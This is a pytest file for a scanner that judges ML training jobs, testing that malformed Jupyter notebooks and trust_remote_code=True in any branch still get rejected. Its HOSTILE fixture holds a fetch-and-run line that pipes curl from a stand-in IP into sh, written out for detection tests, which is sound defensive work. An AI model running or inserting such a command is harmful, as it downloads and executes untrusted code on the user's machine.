"""Session 58 (hardening58): adding something to a job never lowers its verdict.

- A notebook's `cells` entry that is not a cell object (an integer beside the hostile cell) made the whole notebook
  unreadable: reject lowered to escalate, the hostile cell unreported. An nbformat-3 worksheet whose `cells` is not a
  list was an internal error. Now such an entry stands as one unreadable cell (`unanalyzable.notebook` naming it) and
  every other cell is read: Jupyter runs the cells before it. A `cell_type` that is a list or an object was an
  internal error (unhashable).
- `trust_remote_code=t` with `t = True`, and `t = 0` in one more branch, read as unresolved (escalate): a true
  constant among the values is now the threat, as a threat pattern reads every value (session 57).
The jobs go through the CLI (a real subprocess) and a site's path (api.gate with a fork server).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer import api
from analyzer.model import Decision
from conftest import run_cli

# forks a site's fork server and runs the CLI: run alone (make test's second run)
pytestmark = pytest.mark.serial

HOSTILE = ["import os\n", "os.system('curl -s http://203.0.113.5/x | sh')\n"]
HONEST = ["import numpy as np\n", "x = np.zeros(3)\n"]


def _v4(*cells: object) -> dict:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells)}


def _v4_cell(source: list[str]) -> dict:
    return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}


def _v3(*worksheets: object) -> dict:
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": list(worksheets)}


def _v3_cell(source: list[str]) -> dict:
    return {"cell_type": "code", "input": source, "outputs": [], "language": "python"}


def _notebook_job(tmp_path: Path, doc: dict) -> Path:
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.ipynb").write_text(json.dumps(doc))
    return job


def _both_paths(job: Path, fork_server) -> list[tuple[str, list[dict]]]:
    """(decision, findings as rule and message) of `job` through the CLI and through a site's gate."""
    (cli,) = json.loads(run_cli("scan", "--no-cache", "--format", "json", str(job)).stdout)["reports"]
    _, site = api.gate(job, kit.POLICY, server=fork_server)
    return [(cli["decision"], [{"rule": f["rule"], "message": f["message"]} for f in cli["findings"]]),
            (site.decision.value, [{"rule": f.rule, "message": f.message} for f in site.findings])]


@pytest.mark.parametrize("extra", [5, "x", None, [1]], ids=["int", "str", "null", "list"])
def test_an_entry_that_is_no_cell_keeps_the_hostile_cell(tmp_path: Path, fork_server, extra: object) -> None:
    """On main: escalate (`cells is not a list of objects`), fetch-and-run unreported."""
    job = _notebook_job(tmp_path, _v4(_v4_cell(HOSTILE), extra))
    for decision, findings in _both_paths(job, fork_server):
        rules = {f["rule"] for f in findings}
        assert decision == "reject" and "remote-code.fetch-and-run-command" in rules, findings
        assert any(f["rule"] == "unanalyzable.notebook" and "cell 2 " in f["message"] for f in findings), findings


@pytest.mark.parametrize("kind", [[], {}], ids=["list", "object"])
def test_a_cell_type_that_is_no_text_keeps_the_hostile_cell(tmp_path: Path, kind: object) -> None:
    """On main: `"cell_type": []` beside the hostile cell was an internal error (unhashable in the set of nbformat's
    types): escalate, fetch-and-run unreported. Jupyter runs the hostile cell and skips this one."""
    job = _notebook_job(tmp_path, _v4(_v4_cell(HOSTILE), {"cell_type": kind, "source": "x = 1\n"}))
    (cli,) = json.loads(run_cli("scan", "--no-cache", "--format", "json", str(job)).stdout)["reports"]
    rules = {f["rule"] for f in cli["findings"]}
    assert cli["decision"] == "reject" and "remote-code.fetch-and-run-command" in rules, cli["findings"]
    assert "unanalyzable.internal-error" not in rules, cli["findings"]


@pytest.mark.parametrize("cells", [5, "abc", {"cell_type": "code", "source": HONEST}], ids=["int", "str", "object"])
def test_a_worksheet_whose_cells_is_no_list_is_an_unreadable_cell(tmp_path: Path, fork_server, cells: object) -> None:
    """On main: an integer was an internal error (TypeError); an object was read as its keys. Beside a worksheet of
    the hostile cell: reject; alone: escalate on the unreadable notebook."""
    hostile = _notebook_job(tmp_path, _v3({"cells": [_v3_cell(HOSTILE)]}, {"cells": cells}))
    for decision, findings in _both_paths(hostile, fork_server):
        assert decision == "reject" and "remote-code.fetch-and-run-command" in {f["rule"] for f in findings}, findings
        assert "unanalyzable.internal-error" not in {f["rule"] for f in findings}, findings
    alone = tmp_path / "alone"
    alone.mkdir()
    (alone / "train.ipynb").write_text(json.dumps(_v3({"cells": cells})))
    (cli,) = json.loads(run_cli("scan", "--no-cache", "--format", "json", str(alone)).stdout)["reports"]
    assert cli["decision"] == "escalate", cli["findings"]
    assert [f["rule"] for f in cli["findings"]] == ["unanalyzable.notebook"], cli["findings"]
    assert "cell 1 is not a cell" in cli["findings"][0]["message"], cli["findings"]


def test_thousands_of_unreadable_entries_make_one_bounded_finding() -> None:
    """5,000 integer entries beside the hostile cell: reject, the finding names ten cells and counts the rest (the
    list of every position had made a message twice the notebook's size)."""
    report = kit.scan_text(json.dumps(_v4(_v4_cell(HOSTILE), *[0] * 5000)), "train.ipynb")
    assert report.decision is Decision.REJECT and kit.holds(report, "remote-code.fetch-and-run-command")
    (unreadable,) = [f for f in report.findings if f.rule == "unanalyzable.notebook"]
    assert "cell 2, 3, 4, 5, 6, 7, 8, 9, 10, 11 and 4990 more" in unreadable.message
    assert len(unreadable.message) < 300, len(unreadable.message)


def test_an_honest_notebook_stays_accepted(tmp_path: Path) -> None:
    """The twin: v3 and v4 notebooks of plain cells are read whole, nothing unreadable."""
    for doc in (_v4(_v4_cell(HONEST)), _v3({"cells": [_v3_cell(HONEST)]}, {"cells": []})):
        job = tmp_path / f"v{doc['nbformat']}"
        job.mkdir()
        (job / "train.ipynb").write_text(json.dumps(doc))
        kit.assert_accepted(kit.scan(job))


TRUST = "import sys\nfrom transformers import AutoModel\nt = {first}\nif len(sys.argv) > 3:\n    t = {other}\n" \
        "m = AutoModel.from_pretrained('bert-base-uncased', trust_remote_code=t)\n"


@pytest.mark.parametrize("first, other", [("True", "0"), ("False", "1"), ("True", "None")])
def test_trust_remote_code_true_in_one_branch_is_the_threat(first: str, other: str) -> None:
    """On main: reject with `t = True` alone, escalate (`trust-remote-code-unresolved`) with a false value added."""
    report = kit.scan_text(TRUST.format(first=first, other=other))
    kit.assert_held(report, "remote-code.trust-remote-code", Decision.REJECT)


@pytest.mark.parametrize("first, other, rule", [("False", "0", None),
                                                ("False", "sys.argv[1]", "remote-code.trust-remote-code-unresolved")])
def test_trust_remote_code_twins(first: str, other: str, rule: str | None) -> None:
    """False in every branch is no finding; a false constant beside a value chosen at run time stays a doubt."""
    report = kit.scan_text(TRUST.format(first=first, other=other))
    found = {r for r in kit.rules(report) if r.startswith("remote-code.trust-remote-code")}
    assert found == ({rule} if rule else set()), kit.findings(report)
